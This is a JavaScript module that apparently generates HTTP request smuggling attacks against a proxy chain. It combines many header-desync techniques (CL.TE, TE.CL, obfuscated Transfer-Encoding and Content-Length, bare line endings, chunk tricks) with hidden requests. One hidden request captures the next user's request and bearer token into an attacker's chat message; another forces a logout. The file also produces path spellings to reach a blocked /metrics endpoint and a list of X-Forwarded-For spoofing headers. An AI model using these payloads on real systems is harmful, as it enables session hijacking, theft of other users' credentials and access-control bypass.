// Tries to get a request past a proxy inside another one. A try is a request, or bytes that one of the readers takes for one, with a second request hidden in it. It is made of three choices:
// the way in which two readers may disagree about the end of a request, the hidden request, and the place of the trick in the head.
import { PREFIXES } from './header_names.mjs';
import { METRICS_SPELLINGS } from './heads.mjs';

const lengthOf = (text) => Buffer.byteLength(text, 'latin1');
const chunked = (text, extension = '') => `${lengthOf(text).toString(16)}${extension}\r\n${text}\r\n0\r\n\r\n`;
const head = (line, ...fields) => `${line}\r\n${fields.map((field) => `${field}\r\n`).join('')}\r\n`;
const GET = 'GET /nothing HTTP/1.1';
const POST = 'POST /api/v1/nothing HTTP/1.1';
const JSON_TYPE = 'Content-Type: application/json';

// What is hidden. The first ones swallow the request that comes next on the same connection: the victim's line becomes a value, its token the hidden request's.
const HIDDEN = {
	'a logout that takes the next token': () => 'POST /api/v1/account.logout HTTP/1.1\r\nX-Y: ',
	'a logout that takes two bytes of the next request': () => 'POST /api/v1/account.logout HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n',
	'a message that takes the next request for its text': ({ token, room }) => head('POST /api/v1/message.send HTTP/1.1', 'Host: x', JSON_TYPE, `Authorization: Bearer ${token}`, 'Content-Length: 400') + `{"room":"${room}","text":"`,
	'/metrics': () => head('GET /metrics HTTP/1.1', 'Host: x'),
	'/metrics, and the next line in a value': () => 'GET /metrics HTTP/1.1\r\nHost: x\r\nX: ',
	'/healthz': () => head('GET /healthz HTTP/1.1', 'Host: x'),
	'an end of the connection': () => head('GET /healthz HTTP/1.1', 'Host: x', 'Connection: close'),
};

const INVISIBLE = ['\x0b', '\x0c', '\0', '\x01', '\x7f', ' ', '\t', '  ', '   ', '\xa0', '\x85', '\r', '\n', '"', ','];
const ENCODINGS = ['chunked', 'Chunked', 'xchunked', 'chunked, identity', 'identity, chunked', 'chunked, chunked', '"chunked"', 'chunked;q=1', ' chunked', '\tchunked', 'chunked\t', 'gzip, chunked', 'x', ''];
const LENGTHS = ['+', '-', '0x', '00', ' ', '\t', '"', '0,', '\x0b', '\0', '1e', '_'];

// Ways to disagree. Each gives the bytes for a hidden text.
const WAYS = {
	'two requests, openly': (hidden) => head(GET, 'Host: x') + hidden,
	'CL.0': (hidden) => head(GET, 'Host: x', `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'CL.0 by POST to the page': (hidden) => head('POST / HTTP/1.1', 'Host: x', `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'CL.0 by POST to a command': (hidden) => head(POST, 'Host: x', JSON_TYPE, `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'CL.0 by POST to the stream': (hidden) => head('POST /api/v1/events HTTP/1.1', 'Host: x', `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'CL.0 by another method': (hidden, random) => head(`${random.of(['PUT', 'DELETE', 'OPTIONS', 'BREW', 'HEAD', 'get'])} / HTTP/1.1`, 'Host: x', `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'a length behind the beginning of a name': (hidden, random) => head(POST, 'Host: x', JSON_TYPE, `${random.of(PREFIXES)}: b`, `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'a length of GET behind the beginning of a name': (hidden, random) => head(GET, 'Host: x', `${random.of(PREFIXES)}: b`, `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'an encoding behind the beginning of a name': (hidden, random) => head(POST, 'Host: x', JSON_TYPE, `${random.of(PREFIXES)}: b`, 'Transfer-Encoding: chunked') + chunked(hidden),
	'an encoding of GET behind the beginning of a name': (hidden, random) => head(GET, 'Host: x', `${random.of(PREFIXES)}: b`, 'Transfer-Encoding: chunked') + chunked(hidden),
	'a host behind the beginning of a name': (hidden, random) => head(GET, `${random.of(PREFIXES)}: b`, 'Host: x', `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'CL.TE': (hidden, random) => `${head(POST, 'Host: x', `Content-Length: ${lengthOf(hidden) + 5}`, `Transfer-Encoding: ${random.of(ENCODINGS)}`)}0\r\n\r\n${hidden}`,
	'TE.CL': (hidden, random) => head(POST, 'Host: x', `Transfer-Encoding: ${random.of(ENCODINGS)}`, 'Content-Length: 4') + chunked(hidden),
	'TE.TE': (hidden, random) => `${head(POST, 'Host: x', `Transfer-Encoding: ${random.of(ENCODINGS)}`, `Transfer-Encoding: ${random.of(ENCODINGS)}`, `Content-Length: ${lengthOf(hidden) + 5}`)}0\r\n\r\n${hidden}`,
	'TE alone': (hidden, random) => head(random.of([GET, POST]), 'Host: x', `Transfer-Encoding: ${random.of(ENCODINGS)}`) + chunked(hidden),
	'an encoding with a byte before its name': (hidden, random) => `${head(POST, 'Host: x', `Content-Length: ${lengthOf(hidden) + 5}`, `${random.of(INVISIBLE)}Transfer-Encoding: chunked`)}0\r\n\r\n${hidden}`,
	'an encoding with a byte behind its name': (hidden, random) => `${head(POST, 'Host: x', `Content-Length: ${lengthOf(hidden) + 5}`, `Transfer-Encoding${random.of(INVISIBLE)}: chunked`)}0\r\n\r\n${hidden}`,
	'an encoding with a byte in its value': (hidden, random) => `${head(POST, 'Host: x', `Content-Length: ${lengthOf(hidden) + 5}`, `Transfer-Encoding:${random.of(INVISIBLE)}chunked${random.of(INVISIBLE)}`)}0\r\n\r\n${hidden}`,
	'a length with a byte behind its name': (hidden, random) => head(POST, 'Host: x', `Content-Length${random.of(INVISIBLE)}: 0`, `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'a length that is no number': (hidden, random) => head(POST, 'Host: x', JSON_TYPE, `Content-Length: ${random.of(LENGTHS)}${lengthOf(hidden)}`) + hidden,
	'two lengths': (hidden, random) => head(POST, 'Host: x', ...(random.chance(0.5) ? ['Content-Length: 0', `Content-Length: ${lengthOf(hidden)}`] : [`Content-Length: ${lengthOf(hidden)}`, 'Content-Length: 0'])) + hidden,
	'a list of lengths': (hidden) => head(POST, 'Host: x', `Content-Length: 0, ${lengthOf(hidden)}`) + hidden,
	'a length in a folded line': (hidden, random) => head(POST, 'Host: x', `Content-Length:\r\n${random.of([' ', '\t'])}${lengthOf(hidden)}`) + hidden,
	'an encoding in a folded line': (hidden, random) => `${head(POST, 'Host: x', `Content-Length: ${lengthOf(hidden) + 5}`, `Transfer-Encoding:\r\n${random.of([' ', '\t'])}chunked`)}0\r\n\r\n${hidden}`,
	'a length behind a bare LF or CR': (hidden, random) => head(POST, `Host: x${random.of(['\n', '\r'])}Content-Length: ${lengthOf(hidden)}`) + hidden,
	'an end of the head by bare LFs': (hidden, random) => `${POST}\r\nHost: x${random.of(['\n\n', '\n\r\n', '\r\n\n', '\r\r', '\r\n\r'])}${hidden}`,
	'a head in a value, by LF': (hidden) => head(GET, 'Host: x', `X-Test: a\n\n${hidden}`),
	'a head in the target': (hidden) => head(`GET /nothing%0d%0a%0d%0a${encodeURIComponent(hidden)} HTTP/1.1`, 'Host: x'),
	'a head in a value with a NUL': (hidden, random) => `${head(POST, 'Host: x', `X-Te${random.of(['\0', '\x01'])}st: a`, `Content-Length: ${lengthOf(hidden)}`)}${hidden}`,
	'an extension of a chunk': (hidden, random) => `${head(POST, 'Host: x', 'Transfer-Encoding: chunked')}${chunked(hidden, random.of([';a=b', ';\n', ' ', ';a="\r\n', ';a\x0b', '\t']))}`,
	'a size of a chunk that is no number': (hidden, random) => `${head(POST, 'Host: x', 'Transfer-Encoding: chunked')}${random.of(['0x', '+', '-', '00000000000000000', ' '])}${chunked(hidden)}`,
	'a trailer with a length': (hidden) => `${head(POST, 'Host: x', 'Transfer-Encoding: chunked', 'Trailer: Content-Length')}0\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
	'Connection takes a field away': (hidden, random) => head(POST, 'Host: x', `Connection: keep-alive, ${random.of(['Content-Length', 'Transfer-Encoding', 'Host', 'X-Forwarded-For'])}`, `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'an upgrade that comes to nothing': (hidden, random) => head('GET /ws HTTP/1.1', 'Host: x', 'Connection: Upgrade', `Upgrade: ${random.of(['websocket', 'h2c', 'x'])}`, `Sec-WebSocket-Version: ${random.of(['12', '13', 'x'])}`, 'Sec-WebSocket-Key: x') + hidden,
	'an upgrade with a length': (hidden) => head('GET /ws HTTP/1.1', 'Host: x', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 12', `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'an expectation': (hidden, random) => head(POST, 'Host: x', JSON_TYPE, `Expect: ${random.of(['100-continue', 'x', ' 100-continue', '100-continue, x'])}`, `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'HTTP/1.0': (hidden, random) => head('POST /api/v1/nothing HTTP/1.0', 'Host: x', 'Connection: keep-alive', ...(random.chance(0.5) ? [`Content-Length: ${lengthOf(hidden)}`] : ['Transfer-Encoding: chunked'])) + hidden,
	'a body too large': (hidden) => head(POST, 'Host: x', JSON_TYPE, 'Content-Length: 70000') + 'x'.repeat(70000 - lengthOf(hidden)) + hidden,
	'an absolute target': (hidden, random) => head(`POST ${random.of(['http://x', 'http://y', 'https://x', 'http://x@y', 'http:/', '//x'])}/api/v1/nothing HTTP/1.1`, 'Host: x', `Content-Length: ${lengthOf(hidden)}`) + hidden,
	'a field before the line': (hidden) => `X: y\r\n${head(POST, 'Host: x', `Content-Length: ${lengthOf(hidden)}`)}${hidden}`,
	'two hosts': (hidden) => head(POST, 'Host: x', 'Host: y', `Content-Length: ${lengthOf(hidden)}`) + hidden,
};
export const wayNames = Object.keys(WAYS);

// Targets that may reach /metrics although a proxy refuses that path.
const PLACES = [...METRICS_SPELLINGS, 'http://x/metrics', 'http://y/metrics', 'http://x//metrics', 'http://x/./metrics', 'http://x/%6detrics', '//x/metrics', 'http:///metrics', '/metrics HTTP/1.1\r\nX:', '/metrics\tx', '*/metrics', '/nothing?/../metrics',
	'/nothing#/../../metrics', '/nothing\n/metrics', '/nothing\0/../metrics'];

function spelled(random) {
	const target = random.of(PLACES);
	return { name: `the path ${JSON.stringify(target)}`, bytes: head(`${random.of(['GET', 'GET', 'HEAD', 'POST'])} ${target} HTTP/1.1`, 'Host: x', ...(random.chance(0.2) ? [`${random.of(PREFIXES)}: b`] : [])) };
}

// The next try. attacker: {token, room} of the one who tries.
export function nextTry(random, attacker) {
	if (random.chance(0.15)) {
		return spelled(random);
	}
	const way = random.of(wayNames);
	const what = random.of(Object.keys(HIDDEN));
	const bytes = WAYS[way](HIDDEN[what](attacker), random);
	return { name: `${way}: ${what}`, bytes };
}

// Fields by which a client may try to be counted as another one.
export const FORWARDED_TRICKS = [
	...['X-Forwarded-For', 'x-forwarded-for', 'X-FORWARDED-FOR', 'Forwarded', 'X-Real-IP', 'X-Client-IP', 'True-Client-IP', 'CF-Connecting-IP', 'X_Forwarded_For', 'X-Forwarded_For', 'X-Forwarded-For2', 'X-Forwarded-Host', 'Via'].map((name) => `${name}: 192.0.2.7`),
	...['X', 'X-', 'X-F', 'X-Forwarded', 'X-Forwarded-', 'X-Forwarded-F', 'X-Forwarded-Fo', 'x-forwarded-fo', 'A', 'C', 'H', 'T', 'V', 'X-Auth', 'X-Real', 'Content'].map((name) => `${name}: 192.0.2.7`),
	'X-Forwarded-For : 192.0.2.7', 'X-Forwarded-For\t: 192.0.2.7', 'X-Forwarded-For   : 192.0.2.7', ' X-Forwarded-For: 192.0.2.7', '\x0bX-Forwarded-For: 192.0.2.7', 'X-Forwarded-For\x0b: 192.0.2.7', 'X-Forwarded-For\0: 192.0.2.7',
	'X-Test: a\nX-Forwarded-For: 192.0.2.7', 'X-Test: a\rX-Forwarded-For: 192.0.2.7', 'X-Test: a\r\n\tX-Forwarded-For: 192.0.2.7', 'X-Forwarded-For:\r\n 192.0.2.7', 'X-Forwarded-For: 192.0.2.7\r\nX-Forwarded-For: 192.0.2.8', 'X-Forwarded-For: 192.0.2.7, ',
	'X-Forwarded-For: 192.0.2.7, 127.0.0.1', 'Connection: X-Forwarded-For', 'Connection: keep-alive, X-Forwarded-For\r\nX-Forwarded-For: 192.0.2.7', 'X-Forwarded-For: "192.0.2.7"', 'X-Forwarded-For: 192.0.2.7,\x0b', 'X-Forwarded-For;: 192.0.2.7',
];
